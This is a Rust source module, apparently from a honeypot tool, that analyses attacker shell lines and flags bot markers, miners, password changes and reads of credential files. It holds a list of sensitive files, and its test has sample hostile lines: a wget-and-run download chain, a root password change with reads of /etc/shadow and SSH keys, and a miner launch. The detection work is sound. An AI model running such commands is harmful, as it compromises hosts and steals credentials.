//! One input line as the session's models read it: split into commands
//! ([`super::commands::split`]), each normalized ([`super::normalize`]), and the text checks
//! of the labelling rules ([`LineText`]). All of it depends on the line's text alone, and bots
//! send the same lines again and again, so [`analyze`] keeps the analyses of recent lines per
//! thread ([`crate::memo`]).

use std::cell::RefCell;
use std::sync::Arc;

use super::commands::{Command, split};
use super::labels::{IOT_MARKERS, MINERS, TEMPLATES, busybox_key};
use super::normalize::{Normalized, normalize_command};
use crate::memo::{Memo, text_cached};

/// Longest line whose analysis is kept, in bytes (longer ones are analysed each time).
pub const MAX_CACHED_LINE: usize = 4096;
/// Most line analyses kept per thread.
const MAX_LINES: usize = 1024;
/// Most line bytes kept per thread (the analyses take a few times that).
const MAX_BYTES: usize = 256 << 10;

/// Files whose reading is worth noting (credentials, keys, wallets).
const SENSITIVE: &[&str] = &[
    "/etc/shadow",
    "id_rsa",
    ".bash_history",
    "wallet",
    ".aws/",
    "credentials",
    ".git-credentials",
    "/etc/passwd",
];

/// Strings whose presence marks a password change.
const PASSWORD_MARKERS: &[&str] = &[
    "chpasswd",
    "setuserpasswd",
    "DEF_SSH_PASSWORD",
    "http_passwd",
    "/etc/shadow",
];

thread_local! {
    static LINES: RefCell<Memo<LineAnalysis>> =
        RefCell::new(Memo::new(MAX_LINES, MAX_BYTES));
}

/// What the labelling rules' text checks find in one line (or an echoed script).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct LineText {
    /// An IoT bot's marker or a `busybox` applet key.
    pub iot: bool,
    /// The `mdrfckr` key campaign.
    pub key: bool,
    /// A miner's name (case-insensitive).
    pub miner: bool,
    /// A known bot template.
    pub template: bool,
    /// An `scp -t` upload.
    pub upload: bool,
    /// A password change.
    pub password: bool,
    /// How many of the sensitive files it names.
    pub sensitive: usize,
}

impl LineText {
    /// The checks on `text`.
    pub fn of(text: &str) -> LineText {
        LineText {
            iot: IOT_MARKERS.iter().any(|f| text.contains(f)) || busybox_key(text),
            key: text.contains("mdrfckr"),
            miner: {
                let lower = text.to_lowercase();
                MINERS.iter().any(|m| lower.contains(m))
            },
            template: TEMPLATES.iter().any(|t| text.contains(t)),
            upload: text.contains("scp -t"),
            password: PASSWORD_MARKERS.iter().any(|f| text.contains(f)),
            sensitive: SENSITIVE.iter().filter(|s| text.contains(*s)).count(),
        }
    }
}

/// One line's commands, their normalized forms and its text checks.
#[derive(Debug, Clone, PartialEq)]
pub struct LineAnalysis {
    /// The line's commands ([`split`]).
    pub commands: Vec<Command>,
    /// Each command's normalized form, in order.
    pub normalized: Vec<Normalized>,
    /// The rules' text checks on the whole line.
    pub text: LineText,
}

impl LineAnalysis {
    /// Analyses `line`.
    pub fn of(line: &str) -> LineAnalysis {
        let commands = split(line);
        let normalized = commands.iter().map(normalize_command).collect();
        LineAnalysis {
            commands,
            normalized,
            text: LineText::of(line),
        }
    }
}

/// The analysis of `line`, shared with the other sessions of the thread that typed it lately.
pub fn analyze(line: &str) -> Arc<LineAnalysis> {
    text_cached(&LINES, line, MAX_CACHED_LINE, LineAnalysis::of)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cached_analysis_is_the_analysis() {
        for line in [
            "cat /proc/cpuinfo | grep name | wc -l",
            "cd /tmp; wget http://203.0.113.5/x.sh; chmod 777 x.sh; sh x.sh",
            "echo \"root:Xy12ab9\" | chpasswd; cat /etc/shadow ~/.ssh/id_rsa",
            "/bin/busybox ECCHI; xmrig --donate-level 1",
            "",
            "'",
        ] {
            let first = analyze(line);
            assert_eq!(*first, LineAnalysis::of(line), "{line:?}");
            assert!(Arc::ptr_eq(&first, &analyze(line)), "{line:?} is kept");
        }
        let long = "x".repeat(MAX_CACHED_LINE + 1);
        assert!(!Arc::ptr_eq(&analyze(&long), &analyze(&long)));
        let text = LineAnalysis::of("echo a | chpasswd; cat /etc/shadow").text;
        assert!(text.password && !text.iot && text.sensitive == 1);
    }
}
